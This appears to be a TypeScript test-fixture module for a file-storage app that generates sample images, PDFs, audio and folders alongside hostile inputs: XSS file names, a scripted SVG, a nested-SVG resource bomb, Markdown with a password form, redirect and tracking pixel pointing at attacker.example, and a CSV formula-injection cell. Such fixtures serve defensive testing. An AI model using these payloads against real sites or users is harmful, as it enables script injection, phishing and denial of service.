import sharp, { type Sharp } from 'sharp';

/** Names that a page could mistake for markup, a path or a part of a URL. All are valid on disk and in a bucket. */
export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=alert(1)>.txt',
  '"><script>alert(1)<\u2215script>.txt',
  `quotes'"\`.txt`,
  '{{constructor.constructor("alert(1)")()}}.txt',
  'javascript:alert(1)',
  '&lt;b&gt;&amp;.txt',
  'a%2Fb',
  '%2e%2e%2f',
  '#?&.txt',
  '?download=1',
  'rtl \u202etxt.exe',
  'zero\u200bwidth.txt',
  'emoji 👩‍👩‍👧 🎉.txt',
  '__proto__',
  `${'long '.repeat(39)}.txt`,
  'x'.repeat(200),
];

/** Returns a photo as JPEG or PNG. Each `seed` draws another landscape. */
export async function photo(
  seed: number,
  { width = 1200, height = 800, format = 'jpeg' }: { width?: number; height?: number; format?: 'jpeg' | 'png' } = {},
): Promise<Buffer> {
  return await drawScene(seed, width, height).toFormat(format).toBuffer();
}

/** Returns photos of several sizes and shapes by their file names. `scale` multiplies their width and height. */
export async function photos({ scale = 1 } = {}): Promise<Record<string, Buffer>> {
  const files = ALBUM.map(async ([name, width, height], seed): Promise<[string, Buffer]> => {
    const format = name.endsWith('.png') ? 'png' : 'jpeg';
    return [name, await photo(seed, { width: width * scale, height: height * scale, format })];
  });
  return Object.fromEntries(await Promise.all(files));
}

const ALBUM: readonly (readonly [name: string, width: number, height: number])[] = [
  ['alps at dawn.jpg', 1600, 1067],
  ['balcony.jpg', 1067, 1600],
  ['coast.jpg', 1920, 1080],
  ['dunes.png', 900, 600],
  ['evening.jpg', 1200, 1200],
  ['fjord panorama.jpg', 2400, 600],
  ['garden wall.jpg', 500, 1500],
  ['harbour.jpg', 1280, 960],
  ['icon.png', 32, 32],
  ['lake.png', 640, 480],
  ['moor.jpg', 1024, 768],
  ['夜景.jpg', 1600, 900],
];

/** An SVG of 2 kB that draws 100 million shapes. */
export const NESTED_SVG = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
<defs><g id="g0"><rect width="1" height="1"/></g>${Array.from(
  { length: 8 },
  (_, level) => `<g id="g${level + 1}">${`<use xlink:href="#g${level}"/>`.repeat(10)}</g>`,
).join('')}</defs><use xlink:href="#g8"/></svg>`;

/** A green circle that calls `alert` in pages that treat it as more than an image. */
export const SCRIPTED_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="alert('onload')">
  <script>alert('script')</script>
  <circle cx="150" cy="100" r="80" fill="green" onclick="alert('onclick')"/>
  <image href="x" onerror="alert('onerror')"/>
  <foreignObject width="1" height="1"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/></foreignObject>
</svg>
`;

/** Markdown with the HTML, links and images of an attacker, and harmless content that must be displayed. */
export const HOSTILE_MARKDOWN = `# Harmless heading

Text with **bold words**, \`code\` and a [link](https://example.org/).

| a table | with two columns |
| :------ | ---------------: |
| one     |                1 |

- [x] done
- [ ] to do

<script>alert('script')</script>
<img src="x" onerror="alert('image')">
<svg onload="alert('svg')"></svg>
<iframe srcdoc="<script>alert('frame')</script>"></iframe>
<a href="javascript:alert('anchor')">anchor</a>
<form action="https://attacker.example/"><input name="password"></form>
<style>body { display: none }</style>
<base href="https://attacker.example/">
<meta http-equiv="refresh" content="0;url=https://attacker.example/">
<div id="page" class="dialog" style="position: fixed; inset: 0">over everything</div>

[link](javascript:alert('link'))
[data](data:text/html,<script>alert('data')</script>)
![image](https://attacker.example/pixel.png)
![local](../photos/coast.jpg)
[a"onmouseover="alert('attribute')]: https://example.org/

\`\`\`html
<script>alert('fence')</script>
\`\`\`
`;

/** Quoted commas, quotes and line breaks, a formula, markup and an empty cell. */
export const CSV =
  'name,price,note\r\n' +
  'tea,"1,50","says ""green"" on it"\r\n' +
  '咖啡,3,"two\nlines"\r\n' +
  `=HYPERLINK("https://attacker.example/"),,<img src=x onerror=alert('csv')>\r\n`;

export const JSON_TEXT = `${JSON.stringify({ name: 'Holdall', tags: ['files', '文件'], nested: { empty: null, 'a<b>': [1, 2.5, true] } })}\n`;

export const SOURCE_CODE = `import { readFile } from 'node:fs/promises';

/** Says how many words a file has. */
export async function countWords(path: string): Promise<number> {
  const text = await readFile(path, 'utf8'); // "</script><script>alert('code')</script>"
  return text.split(/\\s+/).filter((word) => word !== '').length;
}
`;

/** Returns numbered lines of text with a total size. */
export function longText(bytes: number): Buffer {
  const text = Buffer.alloc(bytes, ' and so on');
  for (let at = 0, line = 1; at < bytes; at += 80, line++) text.write(`\nline ${line}`, at);
  return text;
}

/** Returns a PDF document of one page with its title. */
export function pdf(title = 'A small document'): Buffer {
  const content = `BT /F1 36 Tf 60 700 Td (${title.replaceAll(/[\\()]/g, '\\$&')}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let file = '%PDF-1.4\n';
  const offsets = objects.map((object, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(offset).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.join('')}`;
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file + table + trailer, 'latin1');
}

/** Returns a tone as WAV: one channel of 8,000 samples per second, 16 bits each. */
export function wav(seconds = 2, hertz = 440): Buffer {
  const rate = 8000;
  const samples = Buffer.alloc(Math.round(seconds * rate) * 2);
  for (let at = 0; at < samples.length / 2; at++) {
    samples.writeInt16LE(Math.round(8000 * Math.sin((2 * Math.PI * hertz * at) / rate)), at * 2);
  }
  const header = Buffer.alloc(44);
  header.write('RIFF', 0);
  header.writeUInt32LE(36 + samples.length, 4);
  header.write('WAVEfmt ', 8);
  header.writeUInt32LE(16, 16);
  header.writeUInt16LE(1, 20);
  header.writeUInt16LE(1, 22);
  header.writeUInt32LE(rate, 24);
  header.writeUInt32LE(rate * 2, 28);
  header.writeUInt16LE(2, 32);
  header.writeUInt16LE(16, 34);
  header.write('data', 36);
  header.writeUInt32LE(samples.length, 40);
  return Buffer.concat([header, samples]);
}

/** The files of a folder for tests of order, filter and selection: paths to contents. */
export const FOLDER_FILES = {
  'file 1.txt': 'one',
  'file 2.txt': 'two',
  'file 10.txt': 'a little longer',
  'Änderung.md': '#',
  'zebra.bin': 'z'.repeat(5000),
  'album/': '',
  'Music/': '',
  'Music/song.mp3': 'la',
  'Music/live/': '',
};

/** Draws hills below a sky with a sun. Each `seed` draws another landscape. `moment`, from 0 to 1, moves the sun. */
export function drawScene(seed: number, width: number, height: number, moment = 0.4): Sharp {
  const hue = (seed * 67 + 15) % 360;
  const colour = (shift: number, saturation: number, lightness: number) =>
    `hsl(${(hue + shift) % 360} ${saturation}% ${lightness}%)`;
  const hills = [0, 1, 2, 3].map((layer) => {
    const fill = colour(150 + layer * 12, 35 + layer * 5, 52 - layer * 12);
    return `<path d="${ridge(seed * 7 + layer, 48 + layer * 13)}" fill="${fill}"/>`;
  });
  // A service in this process blocks all formats that it draws in other processes.
  sharp.unblock({ operation: ['VipsForeignLoadSvgBuffer'] });
  return sharp(
    Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"
      viewBox="0 0 100 100" preserveAspectRatio="none">
      <linearGradient id="sky" x2="0" y2="1"><stop stop-color="${colour(0, 65, 45)}"/>
      <stop offset="0.7" stop-color="${colour(35, 85, 82)}"/></linearGradient>
      <rect width="100" height="100" fill="url(#sky)"/>
      <ellipse cx="${10 + 80 * moment}" cy="${26 + ((seed * 5) % 18)}" rx="${(700 / width) * Math.min(1, width / height)}"
        ry="${(700 / height) * Math.min(1, width / height)}" fill="${colour(45, 95, 92)}"/>
      ${hills.join('')}
    </svg>`),
  ).removeAlpha();
}

/** Returns the outline of a chain of hills, from `top` (0 to 100) to the lower edge. */
function ridge(seed: number, top: number): string {
  const points = Array.from({ length: 51 }, (_, index) => {
    const x = index * 2;
    const y = top + 7 * Math.sin(x / 9 + seed) + 3 * Math.sin(x / 3.7 + seed * 2.3) + Math.sin(x / 1.3 + seed);
    return `${x},${y.toFixed(2)}`;
  });
  return `M0,100 L${points.join(' ')} L100,100 Z`;
}
